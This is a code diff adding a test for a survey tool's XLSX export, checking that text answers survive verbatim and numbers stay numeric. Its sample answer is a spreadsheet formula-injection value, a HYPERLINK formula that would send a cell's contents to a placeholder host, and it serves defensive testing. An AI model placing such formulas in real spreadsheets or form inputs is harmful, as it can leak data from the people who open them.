@@ -97,6 +97,26 @@ def test_an_analyst_exports_only_approved_submissions_with_status_and_review_com
     )
 
 
+def test_an_analyst_opens_the_xlsx_export_with_text_as_typed_and_numbers_as_numbers(store, dialogue, tmp_path):
+    sid = store.create_submission(dialogue.form_ref())
+    formula = '=HYPERLINK("https://example.invalid/?"&A2,"Open")'
+    store.set_answer(sid, path("convening_institution"), minga.Value.TEXT(text=formula))
+    where = minga.GeoPoint(latitude=-0.2299, longitude=-78.5, altitude=None, accuracy=4.5)
+    store.set_answer(sid, path("location"), minga.Value.GEO_POINT(point=where))
+    [written] = store.export([dialogue], minga.ExportFormat.XLSX, str(tmp_path))
+    assert written.endswith("minga_stakeholder_dialogue.xlsx")
+    sheets = pandas.read_excel(written, sheet_name=None, engine="openpyxl")
+    table = sheets["minga_stakeholder_dialogue"]
+    csv_dir = tmp_path / "csv"
+    store.export([dialogue], minga.ExportFormat.CSV, str(csv_dir))
+    assert list(table.columns) == list(pandas.read_csv(csv_dir / "minga_stakeholder_dialogue.csv").columns)
+    assert list(table["KEY"]) == [f"uuid:{sid}"]
+    # A workbook's text cell never runs, so the text is exactly what was answered (no ' guard).
+    assert table["convening_institution"][0] == formula
+    assert table["place-location-Longitude"].dtype.kind == "f"
+    assert table["place-location-Longitude"][0] == -78.5
+
+
 def test_labels_in_a_language_the_form_lacks_are_refused_naming_its_languages(store, dialogue, tmp_path):
     store.create_submission(dialogue.form_ref())
     with pytest.raises(minga.MingaError.InvalidArgument, match="Kichwa") as refused:
